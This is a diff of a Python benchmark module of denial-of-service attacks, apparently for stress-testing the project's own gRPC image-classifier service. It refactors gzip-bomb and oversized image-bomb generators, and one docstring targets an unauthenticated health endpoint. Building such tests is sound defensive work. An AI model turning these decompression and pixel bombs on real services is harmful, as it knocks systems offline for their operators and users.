@@ -2,19 +2,16 @@
 
 from __future__ import annotations
 
-import io
 import socket
 import struct
 import threading
 import time
-import zlib
 from collections import Counter
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 
-from PIL import Image
-
 from bench.attacks import victims
+from bench.attacks.messages import gzip_bomb, image_bomb, message
 from bench.attacks.raw_http2 import Place, RawConnection
 from covey_proto.v1.classifier_pb2 import ClassifyRequest, EncodedImages, Pixels
 
@@ -46,27 +43,21 @@ class Attack:
     soft_files: int = 0
 
 
-def message(request: ClassifyRequest) -> bytes:
-    """A request as it stands in DATA frames."""
-    data = request.SerializeToString()
-    return struct.pack(">BI", 0, len(data)) + data
-
-
 def image_bombs(target: Target) -> str:
     """Four lossless WebPs of a few bytes and four RGBA PNGs, 50 million pixels each, at once."""
-    files = [_bomb("WEBP", lossless=True), _bomb("PNG")]
+    files = [image_bomb("WEBP", lossless=True), image_bomb("PNG")]
     calls = [message(ClassifyRequest(encoded=EncodedImages(images=[file]))) for file in files * 4]
     return _together(target, calls)
 
 
 def gzip_classify(target: Target) -> str:
     """One message of 1 MB that unfolds to 1 GB."""
-    return _one_body(target, CLASSIFY, _gzip_bomb(), encoding="gzip")
+    return _one_body(target, CLASSIFY, gzip_bomb(), encoding="gzip")
 
 
 def gzip_health(target: Target) -> str:
     """The same to grpc.health.v1, which asks for no token."""
-    return _one_body(target, HEALTH, _gzip_bomb(), encoding="gzip")
+    return _one_body(target, HEALTH, gzip_bomb(), encoding="gzip")
 
 
 def long_prefix(target: Target) -> str:
@@ -252,19 +243,6 @@ def _newcomer(target: Target) -> str:
     got = _got(connection)
     connection.close()
     return f"{got} after {(time.monotonic() - began) * 1000:.0f} ms"
-
-
-def _bomb(kind: str, *, lossless: bool = False) -> bytes:
-    file = io.BytesIO()
-    options = {"lossless": True} if lossless else {}
-    Image.new("RGBA", (7070, 7070), (10, 20, 30, 255)).save(file, kind, **options)
-    return file.getvalue()
-
-
-def _gzip_bomb() -> bytes:
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    zeros = bytes(16 * _MIB)
-    return b"".join([*(packer.compress(zeros) for _ in range(64)), packer.flush()])
 
 
 def _one_body(target: Target, path: str, body: bytes, *, encoding: str) -> str:
